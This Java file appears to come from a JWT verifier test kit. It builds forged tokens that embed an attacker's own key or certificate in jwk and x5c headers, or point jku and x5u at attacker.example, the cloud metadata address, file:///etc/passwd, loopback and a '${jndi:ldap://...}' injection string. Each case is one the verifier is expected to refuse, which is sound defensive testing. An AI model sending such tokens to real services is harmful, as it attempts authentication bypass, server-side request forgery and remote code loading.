package io.bailiwick.testkit.corpus;

import static io.bailiwick.testkit.corpus.Cases.BAD_SIGNATURE;
import static io.bailiwick.testkit.corpus.Cases.FORBIDDEN_HEADER;

import io.bailiwick.testkit.AttackCase.Level;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** A key that the token brings along, or points to. */
final class BroughtKeyAttacks {
  private BroughtKeyAttacks() {}

  static void add(Cases cases) {
    brought(
        cases.family(
            "key-brought-along", Level.JWT, "RFC 8725, 3.10; CVE-2018-0114; CVE-2026-27962"));
    pointed(cases.family("key-pointed-to", Level.JWT, "RFC 8725, 3.10"));
  }

  private static void brought(Cases.Family brought) {
    String jwk = CorpusKey.MALLORY.jwk();
    Signer mallory = CorpusKey.MALLORY.signer();
    Draft draft = Draft.good().header("jwk", jwk);
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk",
        "signed by the key in its own header, under a known id",
        draft.sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-own-kid",
        "the same under the id of that key",
        draft.kid("mallory").sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-no-kid",
        "the same without an id",
        draft.withoutHeader("kid").sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-ec",
        "an EC key in the header",
        Draft.good()
            .alg("ES256")
            .kid("es256")
            .header("jwk", CorpusKey.ec("m", "ES256", CorpusKey.EC_MALLORY).jwk())
            .sign(Signer.ecdsa(CorpusKey.EC_MALLORY, "SHA-256")));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-ed",
        "an Ed25519 key in the header",
        Draft.good()
            .alg("EdDSA")
            .kid("eddsa")
            .header("jwk", CorpusKey.ed("m", CorpusKey.ED_MALLORY).jwk())
            .sign(CorpusKey.ED_MALLORY::sign));
    brought.refuse(
        FORBIDDEN_HEADER,
        "jwk-oct",
        "a symmetric key in the header",
        Draft.good()
            .alg("HS256")
            .header("jwk", "{\"kty\":\"oct\",\"k\":\"c2VjcmV0\"}")
            .sign(Signer.hs256("secret")));
    String certificate =
        Base64.getEncoder().encodeToString(SelfSigned.of(CorpusKey.RSA_MALLORY, "mallory"));
    Cases.Family certified = brought.origin("RFC 8725, 3.10; RFC 7515, 4.1.6");
    certified.refuse(
        FORBIDDEN_HEADER,
        "x5c",
        "a self-signed certificate in the header",
        Draft.good().header("x5c", Json.array(certificate)).sign(mallory));
    certified.refuse(
        FORBIDDEN_HEADER,
        "x5c-no-kid",
        "the same without an id",
        Draft.good().withoutHeader("kid").header("x5c", Json.array(certificate)).sign(mallory));
    brought.refuse(
        FORBIDDEN_HEADER,
        "x5c-and-jwk",
        "certificate and key",
        draft.header("x5c", Json.array(certificate)).sign(mallory));
    Cases.Family strict = brought.level(Level.STRICT).origin("RFC 8725, 3.10");
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-well-signed",
        "a key in the header, signed by the trusted one all the same",
        draft.sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-trusted",
        "the trusted key itself in the header",
        Draft.good().header("jwk", CorpusKey.RS256.jwk()).sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5c-well-signed",
        "certificates in the header, signed by the trusted key",
        Draft.good().header("x5c", Json.array(certificate)).sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jwk-null",
        "jwk is JSON's null",
        Draft.good().header("jwk", "null").sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5c-empty",
        "x5c is an empty array",
        Draft.good().header("x5c", "[]").sign());
    brought
        .origin("RFC 7515, 4.1.8")
        .refuse(
            BAD_SIGNATURE,
            "x5t",
            "only a thumbprint, which is read past; signed by another key",
            Draft.good()
                .header("x5t#S256", Json.quote(Draft.url(Derived.bytes("x5t", 32))))
                .sign(mallory));
  }

  private static void pointed(Cases.Family pointed) {
    Map<String, String> urls = new LinkedHashMap<>();
    urls.put("attacker", "https://attacker.example/jwks.json");
    urls.put("userinfo", "https://issuer.example@attacker.example/jwks.json");
    urls.put("subdomain", "https://issuer.example.attacker.example/jwks.json");
    urls.put(
        "redirect",
        Draft.ISSUER + "/protocol/openid-connect/logout?redirect_uri=https://attacker.example/");
    urls.put("fragment", "https://attacker.example/jwks.json#" + Draft.ISSUER);
    urls.put("metadata-service", "http://169.254.169.254/latest/meta-data/");
    urls.put("file", "file:///etc/passwd");
    urls.put("loopback", "http://127.0.0.1:9/");
    urls.put("data", "data:application/json,{}");
    urls.put("jndi", "${jndi:ldap://attacker.example/a}");
    urls.forEach(
        (name, url) -> {
          pointed.refuse(
              FORBIDDEN_HEADER,
              "jku-" + name,
              "jku to " + name + ", signed by the attacker's key",
              Draft.good()
                  .kid("mallory")
                  .header("jku", Json.quote(url))
                  .sign(CorpusKey.MALLORY.signer()));
        });
    for (String name : List.of("attacker", "userinfo", "file")) {
      pointed.refuse(
          FORBIDDEN_HEADER,
          "x5u-" + name,
          "x5u to " + name + ", signed by the attacker's key",
          Draft.good()
              .header("x5u", Json.quote(String.valueOf(urls.get(name))))
              .sign(CorpusKey.MALLORY.signer()));
    }
    Cases.Family strict = pointed.level(Level.STRICT);
    strict.refuse(
        FORBIDDEN_HEADER,
        "jku-well-signed",
        "jku to an attacker, signed by the trusted key",
        Draft.good().header("jku", "\"https://attacker.example/jwks.json\"").sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "jku-own",
        "jku to the issuer's own keys, signed by the trusted key",
        Draft.good()
            .header("jku", Json.quote(Draft.ISSUER + "/protocol/openid-connect/certs"))
            .sign());
    strict.refuse(
        FORBIDDEN_HEADER,
        "x5u-well-signed",
        "x5u, signed by the trusted key",
        Draft.good().header("x5u", "\"https://attacker.example/c.pem\"").sign());
  }
}
